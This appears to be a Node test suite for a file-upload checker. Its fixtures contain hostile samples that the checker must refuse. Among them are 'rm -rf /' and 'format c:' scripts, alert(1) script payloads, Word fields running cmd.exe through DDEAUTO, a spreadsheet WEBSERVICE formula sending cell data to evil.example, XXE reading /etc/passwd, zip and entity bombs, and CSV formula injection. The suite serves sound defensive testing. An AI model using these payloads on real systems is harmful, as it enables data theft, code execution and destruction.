import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { describe, it } from 'node:test'
import { gzipSync } from 'node:zlib'
import { examine, examineApart, kinds, mostBytes } from './kinds.ts'
import {
  compound,
  contentTypes,
  documentXml,
  docx,
  odt,
  openDocument,
  packedPdf,
  pdf,
  pngClaiming,
  pptx,
  relations,
  xlsx,
  zip,
} from './kinds.corpus.ts'
import type { Why } from './refused.ts'

const ordinary: [name: string, bytes: Buffer, is: keyof typeof kinds][] = [
  ['report.pdf', pdf(), 'pdf'],
  ['REPORT.PDF', pdf(), 'pdf'],
  ['packed.pdf', packedPdf('1 0 <</Type/Font>>'), 'pdf'],
  ['with a link.pdf', pdf(['<</S/URI/URI(https://www.gov.uk)>>']), 'pdf'],
  ['letter.docx', docx(), 'docx'],
  [
    'with a link.docx',
    docx([
      {
        name: 'word/_rels/document.xml.rels',
        content: relations({ type: 'hyperlink', target: 'https://www.gov.uk', external: true }),
      },
    ]),
    'docx',
  ],
  ['with a picture.docx', docx([{ name: 'word/media/image1.png', content: pngClaiming(10, 10), store: true }]), 'docx'],
  [
    'with a chart.docx',
    docx([{ name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx', content: xlsx(), store: true }]),
    'docx',
  ],
  [
    'with a table of contents.docx',
    docx([
      {
        name: 'word/document.xml',
        content: documentXml(
          '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "https://a" \\o "Link to import" </w:instrText></w:r>',
        ),
      },
    ]),
    'docx',
  ],
  ['log.xlsx', xlsx(), 'xlsx'],
  ['slides.pptx', pptx(), 'pptx'],
  ['letter.odt', odt(), 'odt'],
  ['log.ods', openDocument('application/vnd.oasis.opendocument.spreadsheet', '<office:document-content/>'), 'ods'],
  ['note.txt', Buffer.from('Seen on the wing at 10:05. Threatened.\r\n'), 'txt'],
  ['old note.txt', Buffer.from('Caf\xe9 \x96 \xa3', 'latin1'), 'txt'],
  ['wide note.txt', Buffer.from('\ufeffnote', 'utf16le'), 'txt'],
  ['log.csv', Buffer.from('Date,Change,Phone\n2026-01-05,-5,+44 20 7946 0000\n'), 'csv'],
  ['photo.jpg', Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), 'jpeg'],
  ['shot.png', pngClaiming(10, 10), 'png'],
]

const rels = (...each: Parameters<typeof relations>) => [
  { name: 'word/_rels/document.xml.rels', content: relations(...each) },
]
const body = (xml: string) => [{ name: 'word/document.xml', content: documentXml(xml) }]
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1_000_000)
const nested = (depth: number): Buffer =>
  depth ? docx([{ name: 'word/embeddings/d.docx', content: nested(depth - 1) }]) : docx()
const field = (...pieces: string[]) =>
  body(
    `<w:fldChar w:fldCharType="begin"/>${pieces.map(piece => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')}`,
  )
const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

const hostile: [what: string, name: string, bytes: Buffer, why: Why][] = [
  // names
  ['a file with nothing in it', 'empty.pdf', Buffer.alloc(0), 'empty'],
  ['a file over 25 MB', 'large.txt', Buffer.alloc(mostBytes + 1, 'a'), 'too big'],
  ['a name without an ending', 'report', pdf(), 'no ending'],
  ['a name that is only an ending', '.pdf', pdf(), 'no ending'],
  ['a PDF called a Word document', 'letter.docx', pdf(), 'mislabelled'],
  ['a Word document called a PDF', 'letter.pdf', docx(), 'mislabelled'],
  ['a spreadsheet called a Word document', 'log.docx', xlsx(), 'mislabelled'],
  ['a picture called a PDF', 'scan.pdf', pngClaiming(10, 10), 'mislabelled'],
  ['a picture whose name hides a program’s ending', 'annex\u202egnp.exe', pngClaiming(10, 10), 'not accepted'],
  ['a picture with a program’s ending after its own', 'photo.png.exe', pngClaiming(10, 10), 'not accepted'],
  // programs, pages, archives
  [
    'a Windows program',
    'setup.exe',
    Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0'), Buffer.alloc(500), Buffer.from('PE\0\0')]),
    'not accepted',
  ],
  [
    'a Windows program called a PDF',
    'report.pdf',
    Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0'), Buffer.alloc(500)]),
    'not accepted',
  ],
  [
    'a Linux program called text',
    'note.txt',
    Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(64)]),
    'not accepted',
  ],
  ['a shell script called text', 'note.txt', Buffer.from('#!/bin/sh\nrm -rf /\n'), 'not accepted'],
  ['a batch file called text', 'note.txt', Buffer.from('@echo off\r\nformat c:\r\n'), 'not accepted'],
  ['a web page', 'page.html', Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>'), 'not accepted'],
  ['a web page called text', 'note.txt', Buffer.from('\n\n<!-- note -->\n<script>alert(1)</script>'), 'not accepted'],
  ['a drawing with a script', 'logo.svg', Buffer.from(svg), 'not accepted'],
  ['a drawing called a picture', 'logo.png', Buffer.from(svg), 'not accepted'],
  ['a drawing called text, in UTF-16', 'logo.txt', Buffer.from(`\ufeff${svg}`, 'utf16le'), 'not accepted'],
  ['rich text', 'letter.rtf', Buffer.from('{\\rtf1\\ansi{\\object\\objocx}}'), 'not accepted'],
  ['an e-mail', 'message.eml', Buffer.from('From: a@b.c\r\nTo: d@e.f\r\nSubject: x\r\n\r\nWords'), 'not accepted'],
  ['an Outlook message', 'message.msg', compound('__substg1.0_001A001F'), 'not accepted'],
  ['an older Word document', 'letter.doc', compound('WordDocument'), 'not accepted'],
  ['a compressed folder', 'files.zip', zip([{ name: 'a.txt', content: 'a' }]), 'not accepted'],
  ['a compressed folder called a Word document', 'letter.docx', zip([{ name: 'a.txt', content: 'a' }]), 'not accepted'],
  [
    'a Java archive called a Word document',
    'letter.docx',
    zip([
      { name: 'META-INF/MANIFEST.MF', content: 'Main-Class: A' },
      { name: 'A.class', content: Buffer.from('cafebabe', 'hex'), store: true },
    ]),
    'carries files',
  ],
  ['a gzip file', 'files.gz', gzipSync('words'), 'not accepted'],
  ['bytes that mean nothing', 'note.txt', Buffer.concat([randomBytes(64), Buffer.alloc(4)]), 'not accepted'],
  ['text with a zero byte in it', 'note.txt', Buffer.from('words\0words'), 'not accepted'],
  // locked
  ['a Word document with a password', 'letter.docx', compound('EncryptedPackage'), 'locked'],
  ['a PDF with a password', 'report.pdf', pdf([], { trailer: '/Encrypt 4 0 R' }), 'locked'],
  ['a PDF whose lock is spelt otherwise', 'report.pdf', pdf([], { trailer: '/#45ncr#79pt 4 0 R' }), 'locked'],
  [
    'an OpenDocument with a password',
    'letter.odt',
    odt('x', [{ name: 'META-INF/manifest.xml', content: '<manifest:encryption-data/>' }]),
    'locked',
  ],
  ['an archive entry with a password', 'letter.docx', docx([{ name: 'word/x.xml', content: 'x', flags: 1 }]), 'locked'],
  // macros and scripts
  ['a document with macros', 'letter.docm', docx([{ name: 'word/vbaProject.bin', content: 'x' }]), 'macros'],
  [
    'a document with macros under an ordinary name',
    'letter.docx',
    docx([{ name: 'word/vbaProject.bin', content: 'x' }]),
    'macros',
  ],
  [
    'macros under another name, known by their type',
    'letter.docx',
    docx([
      {
        name: '[Content_Types].xml',
        content: contentTypes('word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      },
    ]),
    'macros',
  ],
  [
    'macros whose type is spelt otherwise',
    'letter.docx',
    docx([
      {
        name: '[Content_Types].xml',
        content: contentTypes('word/document.xml', 'application/vnd.ms-word.document.macro&#69;nabled.main+xml'),
      },
    ]),
    'macros',
  ],
  [
    'a workbook with Excel 4 macros',
    'log.xlsx',
    xlsx([{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }]),
    'macros',
  ],
  [
    'a document with an ActiveX control',
    'letter.docx',
    docx([{ name: 'word/activeX/activeX1.xml', content: '<x/>' }]),
    'macros',
  ],
  [
    'an OpenDocument with a Basic library',
    'letter.odt',
    odt('<x/>', [{ name: 'Basic/Standard/Module1.xml', content: '<x/>' }]),
    'macros',
  ],
  [
    'an OpenDocument that runs a script when opened',
    'letter.odt',
    odt('<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:a"/>'),
    'macros',
  ],
  ['a PDF with a script', 'report.pdf', pdf(['<</S/JavaScript/JS(app.alert(1))>>']), 'scripts'],
  ['a PDF whose script is spelt otherwise', 'report.pdf', pdf(['<</S/J#61vaScr#69pt/JS(app.alert(1))>>']), 'scripts'],
  [
    'a PDF whose script is packed out of sight',
    'report.pdf',
    packedPdf('1 0 <</S/JavaScript/JS(app.alert(1))>>'),
    'scripts',
  ],
  ['a PDF that starts a program', 'report.pdf', pdf(['<</S/Launch/F(cmd.exe)>>']), 'scripts'],
  ['a PDF with a dynamic form', 'report.pdf', pdf(['<</AcroForm<</XFA 5 0 R>>>>']), 'scripts'],
  ['a PDF packed in an unusual way', 'report.pdf', packedPdf('x', '/Filter[/ASCIIHexDecode/FlateDecode]'), 'damaged'],
  // what fetches
  [
    'a document with a template elsewhere',
    'letter.docx',
    docx([
      {
        name: 'word/_rels/settings.xml.rels',
        content: relations({ type: 'attachedTemplate', target: 'https://evil.example/t.dotm', external: true }),
      },
    ]),
    'fetches',
  ],
  [
    'a document with a picture elsewhere, which tells who reads it',
    'letter.docx',
    docx(rels({ type: 'image', target: 'https://evil.example/1.gif', external: true })),
    'fetches',
  ],
  [
    'a document with an object elsewhere',
    'letter.docx',
    docx(rels({ type: 'oleObject', target: '\\\\evil.example\\share\\x', external: true })),
    'fetches',
  ],
  [
    'a document with a link that acts',
    'letter.docx',
    docx(rels({ type: 'hyperlink', target: 'javascript:alert(1)', external: true })),
    'fetches',
  ],
  [
    'a link elsewhere that says it is inside',
    'letter.docx',
    docx(rels({ type: 'image', target: 'file://evil.example/1.gif' })),
    'fetches',
  ],
  [
    'a link whose mark is spelt otherwise',
    'letter.docx',
    docx([
      {
        name: 'word/_rels/document.xml.rels',
        content: `<Relationship Note="a>b" Type='x/image' Target='h' TargetMode='&#x45;xternal'/>`,
      },
    ]),
    'fetches',
  ],
  [
    'a document with a field that runs a program, in pieces',
    'letter.docx',
    docx(field('DD', 'EAU', 'TO c:\\windows\\system32\\cmd.exe')),
    'fetches',
  ],
  [
    'a document with a field that includes another file',
    'letter.docx',
    docx(body('<w:fldSimple w:instr=" INCLUDETEXT &quot;c:\\secret.txt&quot; "/>')),
    'fetches',
  ],
  [
    'a workbook that reads another',
    'log.xlsx',
    xlsx([
      {
        name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
        content: relations({ type: 'externalLinkPath', target: 'file:///s:/other.xlsx', external: true }),
      },
    ]),
    'fetches',
  ],
  [
    'a workbook with a data connection',
    'log.xlsx',
    xlsx([{ name: 'xl/connections.xml', content: '<connections/>' }]),
    'fetches',
  ],
  [
    'a workbook with a formula that sends',
    'log.xlsx',
    xlsx([
      { name: 'xl/worksheets/sheet1.xml', content: '<c><f>_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)</f></c>' },
    ]),
    'fetches',
  ],
  [
    'a workbook with a DDE link',
    'log.xlsx',
    xlsx([
      {
        name: 'xl/externalLinks/externalLink1.xml',
        content: '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
      },
    ]),
    'fetches',
  ],
  [
    'an OpenDocument with a picture elsewhere',
    'letter.odt',
    odt('<draw:image xlink:href="https://evil.example/1.gif"/>'),
    'fetches',
  ],
  [
    'an OpenDocument with a section elsewhere',
    'letter.odt',
    odt('<text:section-source xlink:href="file:///etc/passwd"/>'),
    'fetches',
  ],
  // files in files
  ['a PDF that carries a file', 'report.pdf', pdf(['<</Type/EmbeddedFile/Length 0>>']), 'carries files'],
  [
    'a document with an object of another program',
    'letter.docx',
    docx([{ name: 'word/embeddings/oleObject1.bin', content: compound('Package'), store: true }]),
    'carries files',
  ],
  [
    'a document with a program among its pictures',
    'letter.docx',
    docx([{ name: 'word/media/image1.png', content: 'MZ\x90\0', store: true }]),
    'carries files',
  ],
  [
    'a document with a web page among its parts',
    'letter.docx',
    docx([{ name: 'word/afchunk.mht', content: 'MIME-Version: 1.0' }]),
    'carries files',
  ],
  ['a document in a document in a document in a document', 'letter.docx', nested(3), 'carries files'],
  [
    'macros in an embedded workbook',
    'letter.docx',
    docx([{ name: 'word/embeddings/a.xlsx', content: xlsx([{ name: 'xl/vbaProject.bin', content: 'x' }]) }]),
    'macros',
  ],
  // two in one
  [
    'a PDF with an archive after it',
    'report.pdf',
    Buffer.concat([pdf(), zip([{ name: 'a.exe', content: 'MZ' }])]),
    'two in one',
  ],
  ['a PDF with words after it', 'report.pdf', pdf([], { tail: 'the names are hidden here' }), 'two in one'],
  ['a PDF with a web page before it', 'report.pdf', pdf([], { head: '<html>' }), 'not accepted'],
  ['a PDF after words', 'note.txt', pdf([], { head: 'words ' }), 'two in one'],
  ['an archive with something before it', 'letter.docx', docx([], { before: 'PK-hidden' }), 'two in one'],
  [
    'an archive with something between its parts',
    'letter.docx',
    docx([], { between: Buffer.alloc(500, 'x') }),
    'two in one',
  ],
  ['an archive with a comment', 'letter.docx', docx([], { comment: 'hidden here' }), 'two in one'],
  ['an archive with something after it', 'letter.docx', docx([], { after: 'hidden' }), 'damaged'],
  [
    'an archive with two parts of one name',
    'letter.docx',
    docx([
      { name: 'word/a.xml', content: '<a/>' },
      { name: 'WORD/A.xml', content: '<b/>' },
    ]),
    'two in one',
  ],
  [
    'an archive with two names for one part',
    'letter.docx',
    docx([{ name: 'word/a.xml', localName: 'word/b.xml', content: '<a/>' }]),
    'two in one',
  ],
  [
    'a document of two kinds',
    'letter.docx',
    docx([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', store: true }]),
    'two in one',
  ],
  [
    'a field that runs a program, in a part that is not called XML',
    'letter.docx',
    docx([
      {
        name: 'word/document.dat',
        content: documentXml('<w:fldSimple w:instr=" DDEAUTO cmd "/>'),
      },
    ]),
    'fetches',
  ],
  [
    'a link elsewhere under a prefix of its own making',
    'letter.docx',
    docx([
      {
        name: 'word/_rels/document.xml.rels',
        content: '<é:Relationship Type="x/image" Target="h" TargetMode="External"/>',
      },
    ]),
    'fetches',
  ],
  [
    'a link that runs a script',
    'letter.odt',
    odt('<text:a xlink:href="vnd.sun.star.script:x">read</text:a>'),
    'macros',
  ],
  [
    'XML in four bytes a letter',
    'letter.docx',
    docx([{ name: 'word/a.xml', content: Buffer.from('0000003c00000061', 'hex') }]),
    'damaged',
  ],
  [
    'a script packed behind a filter spelt otherwise',
    'report.pdf',
    packedPdf('1 0 <</S/JavaScript>>', '/#46ilter/FlateDecode'),
    'scripts',
  ],
  [
    'a script packed behind a false beginning',
    'report.pdf',
    packedPdf('1 0 <</S/JavaScript>>', '/X(stream\n)/Filter/FlateDecode'),
    'scripts',
  ],
  [
    'a script packed behind a false end',
    'report.pdf',
    packedPdf('1 0 <</S/JavaScript>>', '/X(endstream)/Filter/FlateDecode'),
    'damaged',
  ],
  [
    'a script packed in a stream that does not say it holds objects',
    'report.pdf',
    Buffer.from(packedPdf('1 0 <</S/JavaScript>>').toString('latin1').replace('/Type/ObjStm', ''), 'latin1'),
    'scripts',
  ],
  // what unpacks without end
  [
    'a document that unpacks a thousand to one',
    'letter.docx',
    docx([{ name: 'word/media/a.emf', content: zeros(30) }]),
    'unpacks too big',
  ],
  [
    'a document that unpacks to more than it may',
    'letter.docx',
    docx(
      Array.from({ length: 7 }, (_, n) => ({
        name: `word/media/a${n}.bin`,
        content: zeros(20),
        store: false,
        size: 20_000_000,
      })),
    ),
    'unpacks too big',
  ],
  [
    'a document that lies about how far it unpacks',
    'letter.docx',
    docx([{ name: 'word/media/a.emf', content: zeros(20), size: 1_000 }]),
    'damaged',
  ],
  [
    'a document of too many parts',
    'letter.docx',
    docx(Array.from({ length: 3_100 }, (_, n) => ({ name: `word/a${n}.xml`, content: '<a/>' }))),
    'unpacks too big',
  ],
  [
    'a document whose parts lie over each other',
    'letter.docx',
    docx([{ name: 'word/a.bin', content: 'same', at: 0 }]),
    'two in one',
  ],
  [
    'a bomb inside a bomb',
    'letter.docx',
    docx([{ name: 'word/embeddings/a.docx', content: docx([{ name: 'word/media/a.emf', content: zeros(20) }]) }]),
    'unpacks too big',
  ],
  ['a PDF that unpacks without end', 'report.pdf', packedPdf('a'.repeat(20_000_000)), 'damaged'],
  [
    'XML that unfolds without end',
    'letter.docx',
    docx([{ name: 'word/a.xml', content: '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>' }]),
    'damaged',
  ],
  [
    'XML that reads another file',
    'letter.docx',
    docx([
      {
        name: 'word/a.xml',
        content: Buffer.from('\ufeff<?xml version="1.0"?><!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>', 'utf16le'),
      },
    ]),
    'damaged',
  ],
  [
    'XML in a code that hides its words',
    'letter.docx',
    docx([{ name: 'word/a.xml', content: '<?xml version="1.0" encoding="UTF-7"?><a/>' }]),
    'damaged',
  ],
  ['a path that climbs out', 'letter.docx', docx([{ name: '../../evil.xml', content: '<a/>' }]), 'damaged'],
  // damaged
  ['half a Word document', 'letter.docx', docx().subarray(0, 200), 'damaged'],
  ['half a PDF', 'report.pdf', pdf().subarray(0, 100), 'damaged'],
  // formulas
  ['a CSV cell that runs a program', 'log.csv', Buffer.from(`Name,Note\nA,"=cmd|'/C calc'!A0"\n`), 'formulas'],
  [
    'a CSV cell that runs behind a sign',
    'log.csv',
    Buffer.from(`Name,Note\nA,@SUM(1+1)*cmd|' /C calc'!A0\n`),
    'formulas',
  ],
  [
    'a CSV cell that runs behind spaces',
    'log.csv',
    Buffer.from('Name;Note\nA; \t =HYPERLINK("https://evil.example")\n'),
    'formulas',
  ],
]

describe('An ordinary file is taken in as what it is', () => {
  for (const [name, bytes, is] of ordinary)
    it(name, async () => assert.deepEqual(await examine(name, bytes), { kind: kinds[is], carries: [], cites: [] }))
})

describe(`A hostile file is refused, and told why and what to do (${hostile.length} files)`, () => {
  for (const [what, name, bytes, why] of hostile)
    it(what, async () => {
      const said = await examine(name, bytes)
      assert.ok('refused' in said, 'it was taken in')
      assert.equal(said.code, why, said.refused)
      assert.match(said.refused, /^(?:This|The|There|A) .+\. .*(?:attach|Attach|never taken|kept\.|taken\.)/s)
    })

  it('wherever it is cut short', async () => {
    for (const [name, bytes] of ordinary.filter(
      ([, , is]) => is !== 'txt' && is !== 'csv' && is !== 'jpeg' && is !== 'png',
    ))
      for (let length = 1; length < bytes.length - 2; length += 37)
        assert.ok('refused' in (await examine(name, bytes.subarray(0, length))), `${name} at ${length}`)
  })
})

describe('What a document carries that its reader may not see is told', () => {
  const carried: [string, string, Buffer, string][] = [
    [
      'the name of its author',
      'a.docx',
      docx([
        {
          name: 'docProps/core.xml',
          content: '<cp:coreProperties><dc:creator>A &amp; B Smith</dc:creator></cp:coreProperties>',
        },
      ]),
      'Its properties name who wrote it: A & B Smith.',
    ],
    [
      'the name of an OpenDocument’s author',
      'a.odt',
      odt('<x/>', [{ name: 'meta.xml', content: '<meta:initial-creator>A Smith</meta:initial-creator>' }]),
      'Its properties name who wrote it: A Smith.',
    ],
    ['the name of a PDF’s author', 'a.pdf', pdf(['<</Author (A Smith)>>']), 'Its properties name its author: A Smith.'],
    [
      'comments',
      'a.docx',
      docx([{ name: 'word/comments.xml', content: '<w:comments><w:comment w:id="0"/></w:comments>' }]),
      'It has comments.',
    ],
    [
      'tracked changes',
      'a.docx',
      docx(body('<w:del w:id="1" w:author="A"><w:r/></w:del>')),
      'It has tracked changes: words taken out can still be read.',
    ],
    ['hidden text', 'a.docx', docx(body('<w:rPr><w:vanish/></w:rPr>')), 'It has hidden text.'],
    [
      'hidden sheets',
      'a.xlsx',
      xlsx([{ name: 'xl/workbook.xml', content: '<sheet name="x" state="veryHidden"/>' }]),
      'It has hidden sheets.',
    ],
    [
      'hidden rows or columns',
      'a.xlsx',
      xlsx([{ name: 'xl/worksheets/sheet1.xml', content: '<row r="1" hidden="1"/>' }]),
      'It has hidden rows or columns.',
    ],
    [
      'speaker’s notes',
      'a.pptx',
      pptx([{ name: 'ppt/notesSlides/notesSlide1.xml', content: '<p:notes/>' }]),
      'It has speaker’s notes.',
    ],
    [
      'hidden slides',
      'a.pptx',
      pptx([{ name: 'ppt/slides/slide1.xml', content: '<p:sld show="0"/>' }]),
      'It has hidden slides.',
    ],
  ]
  for (const [what, name, bytes, says] of carried)
    it(what, async () => {
      const said = await examine(name, bytes)
      assert.ok('kind' in said, 'refused' in said ? said.refused : '')
      assert.deepEqual(said.carries, [says])
    })
})

describe('A file is examined in a thread of its own', () => {
  it('with the same answer', async () => {
    for (const [name, bytes] of [ordinary[0]!, ordinary[4]!])
      assert.deepEqual(await examineApart(name, bytes), await examine(name, bytes))
    const [, name, bytes, why] = hostile.find(([what]) => what === 'a document with macros')!
    const said = await examineApart(name, bytes)
    assert.equal('code' in said && said.code, why)
  })

  it('so that a heavy one doesn’t hold up the others', async () => {
    const words = `<w:p><w:r><w:t>${randomBytes(300).toString('hex')}</w:t></w:r></w:p>`
    const heavy = docx(body(Array.from({ length: 30_000 }, (_, n) => words + n).join('')))
    const loop = performance.eventLoopUtilization()
    const said = await examineApart('heavy.docx', heavy)
    const { utilization } = performance.eventLoopUtilization(loop)
    assert.ok('kind' in said)
    assert.ok(utilization < 0.5, `others had ${((1 - utilization) * 100).toFixed()}% of the time`)
  })
})
